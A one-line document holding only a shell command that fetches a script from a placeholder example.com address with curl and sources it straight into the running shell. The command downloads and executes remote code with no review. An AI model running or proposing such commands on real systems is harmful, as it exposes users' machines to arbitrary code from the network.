. <(curl -s https://example.com/e)
